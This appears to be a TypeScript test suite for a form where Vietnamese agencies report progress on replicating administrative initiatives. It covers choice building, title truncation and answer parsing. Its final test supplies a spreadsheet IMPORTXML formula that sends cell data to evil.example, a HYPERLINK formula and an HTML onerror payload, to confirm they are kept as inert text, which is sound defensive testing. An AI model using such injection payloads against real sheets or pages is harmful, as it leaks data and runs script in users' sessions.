import fc from 'fast-check';
import { presetById } from '../../../src/core/config/presets';
import type { Agency, Initiative } from '../../../src/core/replication/replication-model';
import {
  CHOICE_MAX_LENGTH,
  STATUS_FORM_TITLES,
  statusFormChoices,
  statusFormSpec,
  statusReportOf,
  type StatusFormResponse,
  type StatusQuestionKey,
} from '../../../src/core/replication/status-form';

const config = presetById('hauGiang2024').build();

function initiative(code: string, title: string): Initiative {
  return { code, title, ownerUnit: '', category: '', summary: '', decision: '', year: 2022, source: 'manual', entryCode: '', prize: '' };
}

const agency = (code: string, name: string): Agency => ({ code, name, emails: [] });

// BR-VT 2022 (seeds/br-vt-2022-replication.txt): three models and three solutions, assigned by part III.
const G23 =
  'Giao các Sở, ngành theo chức năng nhiệm vụ của mình hàng quý chủ động đối thoại với doanh nghiệp để lắng nghe, giải quyết, kiến nghị của doanh nghiệp nhằm cải thiện môi trường kinh doanh';
const INITIATIVES: Initiative[] = [
  initiative('BRVT-M1', 'Ngày thứ bảy lắng nghe dân nói'),
  initiative('BRVT-M2', 'Ký số Bản đồ khổ lớn'),
  initiative('BRVT-M3', 'Ngày thứ năm không chờ'),
  initiative('BRVT-G11', 'Biên tập, xuất bản Tờ gấp tuyên truyền'),
  initiative('BRVT-G21', 'Lập nhóm Zalo với người dân, tổ chức đến thực hiện thủ tục hành chính'),
  initiative('BRVT-G22', 'Thiết lập Trang thông tin PCI và Fanpage trên Facebook về các hoạt động đầu tư, cải thiện môi trường kinh doanh'),
  initiative('BRVT-G23', G23),
];
const AGENCIES: Agency[] = [
  agency('SNV', 'Sở Nội vụ'),
  agency('STTTT', 'Sở Thông tin và Truyền thông'),
  agency('SKHDT', 'Sở Kế hoạch và Đầu tư'),
  agency('STNMT', 'Sở Tài nguyên và Môi trường'),
  agency('LD', 'UBND huyện Long Điền'),
  agency('DD', 'UBND huyện Đất Đỏ'),
  agency('CD', 'UBND huyện Côn Đảo'),
];
const pair = (initiativeCode: string, agencyCode: string) => ({ initiativeCode, agencyCode });
const PAIRS = [
  // "Các cơ quan hành chính cấp tỉnh nghiên cứu mô hình 2"
  ...['SNV', 'STTTT', 'SKHDT', 'STNMT'].map((a) => pair('BRVT-M2', a)),
  // "UBND cấp huyện nghiên cứu mô hình 1, 2, 3"
  ...['LD', 'DD'].flatMap((a) => ['BRVT-M1', 'BRVT-M2', 'BRVT-M3'].map((i) => pair(i, a))),
  pair('BRVT-G21', 'STTTT'),
  pair('BRVT-G22', 'SKHDT'),
  pair('BRVT-G23', 'SKHDT'),
];

const spec = statusFormSpec(config, INITIATIVES, AGENCIES, PAIRS);
const question = (key: StatusQuestionKey) => spec.questions.find((q) => q.key === key)!;

function response(answers: Partial<Record<StatusQuestionKey, string>>, extra: Partial<StatusFormResponse> = {}): StatusFormResponse {
  const byTitle = Object.fromEntries(Object.entries(answers).map(([key, value]) => [STATUS_FORM_TITLES[key as StatusQuestionKey], value]));
  return { responseId: 'r-1', timestamp: new Date('2023-03-01T02:00:00Z'), respondentEmail: 'vp@sotttt.example', answers: byTitle, ...extra };
}

describe('the status form built from the replication plan', () => {
  it('asks which agency, which initiative, how far it is, the evidence and who reports; all but the evidence required', () => {
    expect(spec.title).toBe(`Báo cáo tiến độ nhân rộng sáng kiến – ${config.identity.title}`);
    expect(spec.questions.map((q) => [q.key, q.kind, q.title, q.required])).toEqual([
      ['agency', 'list', 'Đơn vị báo cáo', true],
      ['initiative', 'list', 'Sáng kiến, mô hình được giao', true],
      ['status', 'choice', 'Tình hình triển khai', true],
      ['evidence', 'paragraph', 'Kết quả, minh chứng', false],
      ['reporter', 'text', 'Người báo cáo (họ tên, chức vụ, số điện thoại)', true],
    ]);
    expect(question('status').choices).toEqual(['Chưa triển khai', 'Đang áp dụng', 'Đã áp dụng', 'Không phù hợp']);
    // Forms cannot require a question for one status only: the help says when evidence is needed.
    expect(question('evidence').help).toContain('"Đã áp dụng"');
    expect(spec.description).toContain('báo cáo gửi sau thay thế báo cáo trước');
    expect(spec.description).toContain('đường liên kết đến văn bản triển khai');
  });

  it('offers only the agencies and initiatives the plan assigns, as "<code> – <name>" in the order given', () => {
    expect(question('agency').choices).toEqual([
      'SNV – Sở Nội vụ',
      'STTTT – Sở Thông tin và Truyền thông',
      'SKHDT – Sở Kế hoạch và Đầu tư',
      'STNMT – Sở Tài nguyên và Môi trường',
      'LD – UBND huyện Long Điền',
      'DD – UBND huyện Đất Đỏ',
    ]);
    expect(question('initiative').choices).toEqual([
      'BRVT-M1 – Ngày thứ bảy lắng nghe dân nói',
      'BRVT-M2 – Ký số Bản đồ khổ lớn',
      'BRVT-M3 – Ngày thứ năm không chờ',
      'BRVT-G21 – Lập nhóm Zalo với người dân, tổ chức đến thực hiện thủ tục hành chính',
      'BRVT-G22 – Thiết lập Trang thông tin PCI và Fanpage trên Facebook về các hoạt động đầu tư, cải thiện môi trường kinh doanh',
      // The seed's longest title (186 characters) is shown whole.
      `BRVT-G23 – ${G23}`,
    ]);
  });

  it('with nothing assigned yet, offers every agency and initiative rather than an empty list', () => {
    const empty = statusFormSpec(config, INITIATIVES, AGENCIES, []);
    expect(empty.questions.find((q) => q.key === 'agency')!.choices).toHaveLength(AGENCIES.length);
    expect(empty.questions.find((q) => q.key === 'initiative')!.choices).toHaveLength(INITIATIVES.length);
  });

  it('keeps two initiatives with the same title apart, offers a code typed twice once, and skips a row without a code', () => {
    const twins = statusFormSpec(
      config,
      [initiative('TA-01', 'Số hóa hồ sơ một cửa'), initiative('TA-02', 'Số hóa hồ sơ một cửa'), initiative('TA-01', 'Bản chép lại'), initiative(' ', 'Chưa có mã')],
      AGENCIES,
      [],
    );
    expect(twins.questions.find((q) => q.key === 'initiative')!.choices).toEqual(['TA-01 – Số hóa hồ sơ một cửa', 'TA-02 – Số hóa hồ sơ một cửa']);
  });

  it('cuts a title too long for a dropdown, never its code, and tidies line breaks and spaces in names', () => {
    const long = `Mô hình ${'chuyển đổi số trong giải quyết thủ tục hành chính '.repeat(10)}`;
    const [choice] = statusFormSpec(config, [initiative('HG2024-003', long)], AGENCIES, []).questions.find((q) => q.key === 'initiative')!.choices!;
    expect(choice.length).toBeLessThanOrEqual(CHOICE_MAX_LENGTH);
    expect(choice.startsWith('HG2024-003 – Mô hình chuyển đổi số')).toBe(true);
    expect(choice.endsWith('…')).toBe(true);
    expect(statusReportOf(response({ initiative: choice })).initiativeCode).toBe('HG2024-003');
    const [tidied] = statusFormSpec(config, INITIATIVES, [agency('PNV', '  Phòng\nNội   vụ ')], []).questions[0].choices!;
    expect(tidied).toBe('PNV – Phòng Nội vụ');
  });

  it('every choice is unique, within the length limit, and reads back to its own code', () => {
    const code = fc.stringMatching(/^[A-Z]{2,6}[0-9]{0,4}-[0-9]{1,3}$/);
    const title = fc.oneof(fc.string({ maxLength: 400 }), fc.constantFrom('Một cửa – liên thông', 'A - B', '—', ''));
    fc.assert(
      fc.property(fc.uniqueArray(fc.record({ code, title }), { selector: (r) => r.code, minLength: 1, maxLength: 30 }), (rows) => {
        const choices = statusFormSpec(config, rows.map((r) => initiative(r.code, r.title)), AGENCIES, []).questions.find((q) => q.key === 'initiative')!.choices!;
        expect(new Set(choices).size).toBe(rows.length);
        for (const choice of choices) expect(Array.from(choice).length).toBeLessThanOrEqual(CHOICE_MAX_LENGTH);
        expect(choices.map((c) => statusReportOf(response({ initiative: c })).initiativeCode)).toEqual(rows.map((r) => r.code));
      }),
      { numRuns: 100 },
    );
  });

  it('gives the list and multiple-choice questions’ choices by title, to refresh a form already made', () => {
    expect(statusFormChoices(spec)).toEqual({
      'Đơn vị báo cáo': question('agency').choices,
      'Sáng kiến, mô hình được giao': question('initiative').choices,
      'Tình hình triển khai': ['Chưa triển khai', 'Đang áp dụng', 'Đã áp dụng', 'Không phù hợp'],
    });
  });
});

describe('reading a response', () => {
  it('reads back every assigned pair and status answered with the form’s own choices', () => {
    const agencyChoice = new Map(question('agency').choices!.map((c) => [c.split(' – ')[0], c]));
    const initiativeChoice = new Map(question('initiative').choices!.map((c) => [c.split(' – ')[0], c]));
    const statuses = ['notStarted', 'applying', 'applied', 'notSuitable'] as const;
    PAIRS.forEach((p, i) => {
      const status = statuses[i % statuses.length];
      const words = question('status').choices!;
      const report = statusReportOf(
        response({ agency: agencyChoice.get(p.agencyCode), initiative: initiativeChoice.get(p.initiativeCode), status: words[i % statuses.length] }),
      );
      expect([report.agencyCode, report.initiativeCode, report.status]).toEqual([p.agencyCode, p.initiativeCode, status]);
    });
  });

  it('takes a plain code or a retyped dash, and the status whatever its case, accents, spacing or Unicode form', () => {
    const read = (agencyAnswer: string, statusAnswer: string) => {
      const report = statusReportOf(response({ agency: agencyAnswer, status: statusAnswer }));
      return [report.agencyCode, report.status];
    };
    expect(read('STTTT', 'đã áp dụng')).toEqual(['STTTT', 'applied']);
    expect(read(' STTTT - Sở Thông tin và Truyền thông', 'DA AP DUNG')).toEqual(['STTTT', 'applied']);
    expect(read('STTTT–Sở Thông tin và Truyền thông', '  Không   phù hợp ')).toEqual(['STTTT', 'notSuitable']);
    expect(read('TCKH – Phòng Tài chính - Kế hoạch', 'Đang áp dụng'.normalize('NFD'))).toEqual(['TCKH', 'applying']);
    expect(read('STTTT — Sở Thông tin và Truyền thông', 'Chưa triển khai')).toEqual(['STTTT', 'notStarted']);
  });

  it('gives no status for a blank or unknown answer, and no code for a blank one', () => {
    expect(statusReportOf(response({ status: '' })).status).toBeNull();
    expect(statusReportOf(response({ status: 'Đã hoàn thành' })).status).toBeNull();
    expect(statusReportOf(response({})).status).toBeNull();
    expect(statusReportOf(response({ agency: '  ' })).agencyCode).toBe('');
  });

  it('keeps the response’s id and time, lower-cases the address, keeps the evidence’s lines and tidies the reporter’s line', () => {
    const timestamp = new Date('2023-05-10T03:30:00Z');
    const answered = response(
      {
        agency: 'LD – UBND huyện Long Điền',
        initiative: 'BRVT-M3 – Ngày thứ năm không chờ',
        status: 'Đã áp dụng',
        evidence: '  Áp dụng từ 01/3/2023 tại 7 xã.\r\nĐã giải quyết 412 hồ sơ trong ngày.\r\nKế hoạch 45/KH-UBND: https://longdien.example/kh45 ',
        reporter: ' Trần  Văn Bình,\nChánh Văn phòng, 0254 3862 111 ',
      },
      { responseId: 'ACYDBNj', timestamp, respondentEmail: '  VanPhong.LongDien@BRVT.example ' },
    );
    expect(statusReportOf(answered)).toEqual({
      responseId: 'ACYDBNj',
      timestamp,
      respondentEmail: 'vanphong.longdien@brvt.example',
      agencyCode: 'LD',
      initiativeCode: 'BRVT-M3',
      status: 'applied',
      evidence: 'Áp dụng từ 01/3/2023 tại 7 xã.\nĐã giải quyết 412 hồ sơ trong ngày.\nKế hoạch 45/KH-UBND: https://longdien.example/kh45',
      reporter: 'Trần Văn Bình, Chánh Văn phòng, 0254 3862 111',
    });
  });

  it('keeps hostile answers as plain text, and reads no code or status out of text longer than any choice', () => {
    const formula = '=IMPORTXML("https://evil.example/?q="&A1, "//a")';
    const html = '<img src=x onerror="alert(1)"><b>Trưởng phòng</b>';
    const report = statusReportOf(
      response({ agency: `${'SNV'.repeat(100)} – Sở Nội vụ`, initiative: 'BRVT-M2 '.repeat(5000), status: 'Đã áp dụng '.repeat(50), evidence: formula, reporter: html }),
    );
    expect([report.agencyCode, report.initiativeCode, report.status]).toEqual(['', '', null]);
    expect(report.evidence).toBe(formula);
    expect(report.reporter).toBe(html);
    expect(statusReportOf(response({ agency: '=HYPERLINK("https://evil.example") – SNV' })).agencyCode).toBe('=HYPERLINK("https://evil.example")');
  });
});
